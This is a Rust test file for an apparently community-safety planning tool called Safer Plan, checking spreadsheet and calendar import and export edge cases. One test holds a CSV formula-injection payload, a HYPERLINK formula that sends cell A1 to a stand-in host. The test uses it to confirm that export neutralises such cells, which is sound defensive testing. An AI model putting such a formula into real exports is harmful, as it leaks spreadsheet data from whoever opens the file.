//! Every real-world file in `tests/fixtures/realworld/` that concerns
//! spreadsheets or calendars gives its right value (copied from the shared
//! fixtures; their README says what each shows and what was wrong).
#![cfg(not(target_arch = "wasm32"))]

use std::path::PathBuf;

use safer_plan::doc::{Stamp, Workspace};
use safer_plan::model::{ActionDraft, Author, Partnership};
use safer_plan::report::ics::{MAX_LINE_OCTETS, calendar_ics, fold_lines};
use safer_plan::spreadsheet::export::{ACTION_HEADERS, action_rows, to_csv};
use safer_plan::spreadsheet::read::MAX_ROWS;
use safer_plan::spreadsheet::{
    ColumnMapping, ImportPreview, PROBLEMS_SHOWN, Table, first_problems, preview, read_table,
};

fn fixture(name: &str) -> Vec<u8> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/realworld").join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn me() -> Author {
    Author::new("CSP Manager", "Barking and Dagenham Council")
}

/// A new partnership with the demo's Domestic Abuse theme.
fn partnership() -> Workspace {
    let mut ws = Workspace::create("Barking and Dagenham CSP", "Barking and Dagenham", &Stamp::new(&me(), 0));
    let theme = safer_plan::demo::workspace().partnership().theme("domestic-abuse").expect("theme").clone();
    ws.put_theme(&Stamp::new(&me(), 1), theme).expect("theme");
    ws
}

fn previewed(name: &str, plan: &Partnership) -> (Table, ImportPreview) {
    let table = read_table(&fixture(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
    let p = preview(&table, &ColumnMapping::suggest(&table.headers), plan).expect("preview");
    (table, p)
}

#[test]
fn a_1904_date_system_workbook_gives_the_same_dates_as_its_1900_control() {
    let ws = partnership();
    for name in ["tracker-1904-date-system.xlsx", "control-tracker-1900-date-system.xlsx"] {
        let (table, p) = previewed(name, ws.partnership());
        let a = &p.actions[0];
        assert_eq!((a.draft.start.as_str(), a.draft.due.as_str()), ("2019-04-01", "2020-03-31"), "{name}");
        assert_eq!(table.epoch_1904, name.starts_with("tracker-1904"));
    }
}

#[test]
fn a_stray_cell_in_xfd1048576_gives_a_normal_preview_and_a_note() {
    let (table, p) = previewed("tracker-stray-cell-XFD1048576.xlsx", partnership().partnership());
    assert_eq!(p.actions.len(), 1);
    assert_eq!(p.actions[0].draft.title, "Review the ASB strategy");
    assert_eq!(p.actions[0].draft.due, "2020-03-31");
    assert!(p.skipped.is_empty());
    assert_eq!(table.cut.cells_outside, 1);
    assert!(table.notes().iter().any(|n| {
        n.starts_with("1 cell outside rows 1 to 10,000 and columns A to GR was not read (the first is XFD1048576)")
    }));
}

#[test]
fn merged_theme_cells_put_all_three_actions_under_domestic_abuse_and_say_so() {
    let (_, p) = previewed("tracker-merged-theme-cells.xlsx", partnership().partnership());
    let themes: Vec<(&str, &str)> =
        p.actions.iter().map(|a| (a.draft.theme_id.as_str(), a.theme_name.as_str())).collect();
    // The tracker says "Domestic abuse"; the plan's theme is "Domestic Abuse".
    assert_eq!(themes, [("domestic-abuse", "Domestic Abuse"); 3]);
    let notes: Vec<(usize, &str)> = p.notes.iter().map(|n| (n.row, n.reason.as_str())).collect();
    assert_eq!(
        notes,
        [
            (3, "Priority theme taken from the merged cell C2:C4"),
            (4, "Priority theme taken from the merged cell C2:C4")
        ]
    );
}

#[test]
fn an_excel_sep_line_names_the_delimiter() {
    let (_, p) = previewed("tracker-sep-hint-semicolon.csv", partnership().partnership());
    assert_eq!(p.actions.len(), 1);
    assert_eq!(
        (p.actions[0].draft.title.as_str(), p.actions[0].draft.due.as_str()),
        ("Review the ASB strategy", "2020-03-31")
    );
}

#[test]
fn an_ods_row_repeated_a_million_times_stops_at_the_row_limit_with_bounded_problems() {
    let (table, p) = previewed("tracker-repeated-row-1048574.ods", partnership().partnership());
    assert_eq!(p.actions.len(), 1);
    assert_eq!(table.rows.len(), MAX_ROWS - 1, "rows 2 to 10,000 under the headings");
    assert_eq!(table.cut.cells_outside, 1_048_574 - (MAX_ROWS as u64 - 2));
    assert!(table.notes()[1].starts_with("1,038,576 cells outside rows 1 to 10,000"), "{:?}", table.notes());
    let (shown, more) = first_problems(&p.skipped);
    assert_eq!((shown.len(), more), (PROBLEMS_SHOWN, MAX_ROWS - 2 - PROBLEMS_SHOWN));
    assert_eq!(shown[0].reason, "There is no key action in this row");
}

const FORMULA: &str = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click for the full tracker\")";

#[test]
fn a_formula_title_is_neutralised_on_export_and_imported_back_as_written() {
    // What the export used to write: the cell starts with "=" and Excel runs it.
    let (_, old) = previewed("export-formula-title.csv", partnership().partnership());
    assert_eq!(old.actions[0].draft.title, FORMULA);

    let mut ws = partnership();
    let draft = ActionDraft { number: "1".into(), title: FORMULA.into(), ..Default::default() };
    let valid = ws.validate_action(&draft, None).expect("valid");
    ws.add_action(&Stamp::new(&me(), 2), valid).expect("add");
    let csv = to_csv(&ACTION_HEADERS, &action_rows(ws.partnership())).expect("csv");
    let text = String::from_utf8(csv.clone()).expect("utf-8");
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for record in reader.records() {
        for cell in record.expect("record").iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell Excel would run: {cell}");
        }
    }
    assert!(text.contains("\"'=HYPERLINK("), "neutralised as OWASP recommends: {text}");
    let table = read_table(&csv).expect("readable");
    let p = preview(&table, &ColumnMapping::suggest(&table.headers), partnership().partnership()).expect("preview");
    assert_eq!(p.actions[0].draft.title, FORMULA, "Safer Plan's own import reverses it");
}

#[test]
fn a_long_summary_folds_to_lines_of_at_most_75_octets() {
    let fixture = String::from_utf8(fixture("calendar-summary-150-octets.ics")).expect("utf-8");
    assert!(fixture.split("\r\n").any(|l| l.len() == 76), "the fixture has the 76-octet line");
    let refolded = fold_lines(&fixture);
    assert!(refolded.split_terminator("\r\n").all(|l| l.len() <= MAX_LINE_OCTETS));
    assert_eq!(refolded.replace("\r\n ", ""), fixture.replace("\r\n ", ""));

    // The export itself, for the same event.
    let mut ws = partnership();
    let draft = safer_plan::model::EventDraft {
        title: "A".repeat(142),
        kind: "meeting".into(),
        start: "2020-01-28".into(),
        time: "10:00".into(),
        location: "High Town".into(),
        ..Default::default()
    };
    ws.add_event(&Stamp::new(&me(), 3), draft.validate().expect("valid")).expect("event");
    let ics = calendar_ics(ws.partnership(), 1_600_000_000);
    assert!(ics.split_terminator("\r\n").all(|l| l.len() <= MAX_LINE_OCTETS), "{ics}");
    assert!(ics.replace("\r\n ", "").contains(&format!("SUMMARY:{}\r\n", "A".repeat(142))));
}
